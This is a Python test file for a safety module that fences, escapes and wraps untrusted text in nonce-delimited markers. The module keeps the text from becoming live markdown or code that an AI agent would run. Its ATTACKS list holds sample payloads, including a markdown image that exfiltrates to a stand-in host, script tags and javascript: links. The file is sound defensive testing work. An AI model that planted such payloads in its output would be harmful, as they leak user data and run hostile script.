import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from responder.safety.fence import bounded, fenced, has_live_content, inline, plain, untrusted
from responder.safety.sanitise import sanitise

# How AutoGen's CodeExecutorAgent finds code in a message.
EXECUTABLE = re.compile(r"```(?:\s*([\w\+\-]+))?\n([\s\S]*?)```")
NASTY = st.lists(
    st.sampled_from(
        [
            *"`~[]()!<>|\\*_#@:/-+=&;.1 \n\t\"'",
            "```",
            "~~~",
            "python\n",
            "![x](",
            "http://a.b",
            "<img src=x>",
            "</script>",
            "[a]: http://e.vil",
            "www.e.vil",
            "mailto:x",
            "<http://e.vil>",
            "\x1b[2J",
            "\u202e",
            "1. ",
            "    ",
            "N0nceN0nce",
        ]
    ),
    max_size=40,
).map("".join)

ATTACKS = [
    "![exfil](https://e.vil/?d=1)",
    "![ref][r]\n\n[r]: https://e.vil/p.png",
    "<img src=https://e.vil/x>",
    "<script>alert(1)</script>",
    "[click](https://e.vil)",
    "[click](javascript:alert(1))",
    "[click](//e.vil/x)",
    "<https://e.vil>",
    "see https://e.vil/x now",
    "www.e.vil",
    "<!-- hidden -->",
    "| a |\n| --- |\n| ![x](http://e.vil) |",
]


def tokens(markdown: str) -> list[tuple[str, str]]:
    parsed = MarkdownIt("commonmark", {"html": True}).parse(markdown)
    return [(inner.type, inner.content) for outer in parsed for inner in (outer, *(outer.children or ()))]


@given(NASTY)
def test_a_fence_holds_whatever_is_inside(text: str) -> None:
    """The block is one block, its content is the sanitised text, and what follows is outside."""
    parsed = MarkdownIt("commonmark").parse(f"{fenced(text, language='text')}\n\nafter")

    assert [token.type for token in parsed] == ["fence", "paragraph_open", "inline", "paragraph_close"]
    assert parsed[0].content == sanitise(text) + "\n"
    assert parsed[0].info == "text"


@given(NASTY)
def test_a_code_span_holds_whatever_is_inside(text: str) -> None:
    """One code span with the text on one line, its spaces as they were, and nothing beside it."""
    expected = sanitise(text).replace("\n", " ").strip()

    spans = [content for kind, content in tokens(f"x {inline(text)} y") if kind == "code_inline"]

    assert spans == ([expected] if expected else [])
    assert has_live_content(f"x {inline(text)} y") == []


@given(NASTY)
def test_prose_from_outside_stays_prose(text: str) -> None:
    """Escaped text is one paragraph of words: no markup, no list, no heading, nothing live, no mention."""
    shown = plain(text)

    kinds = {kind for kind, _ in tokens(shown)}
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "text_special"}
    assert has_live_content(shown) == []
    assert "@" not in shown


@pytest.mark.parametrize("attack", ATTACKS)
def test_live_content_is_found_unless_it_is_fenced(attack: str) -> None:
    """Every way to load, run or lead somewhere is reported in the open and dead in a fence, a span and prose."""
    assert has_live_content(f"# Report\n\n{attack}\n") != []
    assert has_live_content(f"# Report\n\n{fenced(attack)}\n\n{inline(attack)}\n\n{plain(attack)}\n") == []


def test_links_inside_the_report_are_allowed() -> None:
    """Evidence ids link within the document and to files of the run folder."""
    assert has_live_content("[E1](#e1) and [V1](verification/v1.py)") == []


def test_a_pipe_does_not_end_a_table_cell() -> None:
    """A code span in a table keeps its pipes and its cell."""
    table = f"| a | b |\n| --- | --- |\n| {inline('x | y', cell=True)} | z |"
    parsed = MarkdownIt("commonmark").enable("table").parse(table)

    spans = [child.content for token in parsed for child in token.children or () if child.type == "code_inline"]
    assert spans == ["x | y"]


@given(st.text(max_size=400), st.integers(60, 200))
def test_bounded_text_fits_and_says_what_is_gone(text: str, limit: int) -> None:
    """Never longer than asked; untouched when it fits."""
    short = bounded(text, limit)

    assert len(short) <= limit
    assert short == text or "characters left out" in short


@given(NASTY, NASTY)
def test_no_text_in_a_prompt_can_pose_as_code_or_close_its_marker(text: str, source: str) -> None:
    """However a log is written, the wrapped form holds no code fence and exactly one closing marker."""
    wrapped = untrusted(text, source=source, nonce="N0nceN0nce")
    first, _, rest = wrapped.partition("\n")
    body, _, last = rest.rpartition("\n")

    assert EXECUTABLE.search(wrapped) is None
    assert "```" not in wrapped
    assert wrapped.count("N0nceN0nce") == 2
    assert first.startswith("<<<UNTRUSTED N0nceN0nce from ")
    assert last == ">>>END N0nceN0nce"
    assert body.count("\n") == text.count("\n")


@pytest.mark.parametrize("nonce", ["", "short", "with space 123", "abcd1234>>>"])
def test_a_guessable_or_breaking_nonce_is_refused(nonce: str) -> None:
    """The marker is only worth something when it cannot be guessed or closed."""
    with pytest.raises(ValueError, match="nonce"):
        untrusted("x", source="y", nonce=nonce)
